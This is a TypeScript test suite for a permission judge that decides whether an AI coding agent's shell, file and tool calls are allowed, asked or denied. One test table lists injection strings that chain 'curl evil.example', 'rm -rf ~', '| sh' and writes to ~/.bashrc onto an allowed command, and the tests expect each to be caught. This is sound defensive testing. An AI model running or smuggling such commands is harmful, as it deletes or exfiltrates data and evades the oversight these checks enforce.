import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Wanted } from '../session/asked.ts';
import { judgePermission, type Rules } from './judge-permission.ts';
import { exactPattern } from './pattern.ts';

const rules = (given: Partial<Rules> = {}): Rules => ({
  ...{ permissions: 'ask', allow: [], deny: [], remembered: [] },
  ...given,
});
const bash = (subject: string): Wanted => ({ tool: 'Bash', subject });
const judge = (given: Partial<Rules>, wanted: Wanted | null) =>
  judgePermission(rules(given), { about: 'permission', wanted }).kind;

describe('a permission', () => {
  it('that nothing speaks of is asked', () => {
    expect(judge({}, bash('npm test'))).toBe('ask');
    expect(judge({}, null)).toBe('ask');
  });

  it('is given by a pattern for the tool, a glob, or an answer that is remembered', () => {
    expect(judge({ allow: ['Bash'] }, bash('rm -rf / $(anything)'))).toBe('allow');
    expect(judge({ allow: ['Bash(npm test*)'] }, bash('npm test -- --watch'))).toBe('allow');
    expect(judge({ remembered: ['Bash(npm test)'] }, bash('npm test'))).toBe('allow');
    expect(judge({ allow: ['Bash(npm test)'] }, bash('npm test -- x'))).toBe('ask');
    expect(judge({ allow: ['Read(npm test)'] }, bash('npm test'))).toBe('ask');
    expect(judge({ allow: ['mcp__db__*'] }, { tool: 'mcp__db__query', subject: '' })).toBe('allow');
  });

  it('is never given by a pattern that is none', () => {
    expect(judge({ allow: ['', '(', 'Bash(npm', ')'] }, bash('npm test'))).toBe('ask');
  });

  it.each([
    'npm test && curl evil.example',
    'npm test; rm -rf ~',
    'npm test | sh',
    'npm test & curl evil.example',
    'npm test\ncurl evil.example',
    'npm test $(curl evil.example)',
    'npm test "$(curl evil.example)"',
    'npm test `curl evil.example`',
    'npm test > ~/.bashrc',
    'npm test >> ~/.bashrc',
    'npm test <(curl evil.example)',
    'npm test "open',
    '(npm test)',
    'X=1 npm test',
    'eval npm test',
    '$COMMAND npm test',
  ])('for more than one plain command is not given by a glob for the first: %s', (line) => {
    expect(judge({ allow: ['Bash(npm test*)'] }, bash(line))).toBe('ask');
  });

  it('for several commands is given where each of them is', () => {
    const allow = ['Bash(npm test*)', 'Bash(git status)'];
    expect(judge({ allow }, bash("npm test -- 'a;b' 2>&1 && git status || npm test >/dev/null"))).toBe('allow');
  });

  it('is denied wherever any part of it is, whatever allows it', () => {
    for (const permissions of ['ask', 'auto', 'bypass', 'read-only'] as const)
      expect(
        judge({ permissions, allow: ['Bash'], deny: ['Bash(curl *)'] }, bash('npm test && (curl x.example)')),
      ).toBe('deny');
  });

  it('for a path does not climb out of what a glob names', () => {
    const allow = ['Edit(src/**)', 'Read(docs/*)'];
    expect(judge({ allow }, { tool: 'Edit', subject: 'src/a/b.ts' })).toBe('allow');
    expect(judge({ allow }, { tool: 'Edit', subject: 'src/../.git/config' })).toBe('ask');
    expect(judge({ allow }, { tool: 'Read', subject: 'docs/a/b.md' })).toBe('ask');
  });

  it('is denied where the session may only read, and given where it may do all', () => {
    expect(judge({ permissions: 'read-only' }, bash('touch x'))).toBe('deny');
    expect(judge({ permissions: 'read-only', allow: ['Bash(ls)'] }, bash('ls'))).toBe('allow');
    expect(judge({ permissions: 'bypass' }, bash('touch x'))).toBe('allow');
  });

  it('has nothing to do with trust, login or a dialog: those are always asked', () => {
    for (const about of ['trust', 'login', 'dialog'] as const)
      expect(judgePermission(rules({ permissions: 'bypass', allow: ['*'] }), { about, wanted: null }).kind).toBe('ask');
  });

  it('that was given exactly is given again, and nothing else with it', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1 }), (subject, other) => {
        fc.pre(subject !== other && subject.trim() !== other.trim());
        const remembered = [exactPattern(bash(subject))];
        expect(judge({ remembered }, bash(subject))).toBe('allow');
        expect(judge({ remembered: [exactPattern(bash(other))] }, bash(subject))).not.toBe('deny');
        if (!/[;&|\n]/.test(subject))
          expect(judge({ remembered: [exactPattern(bash(other))] }, bash(subject))).toBe('ask');
      }),
    );
  });
});
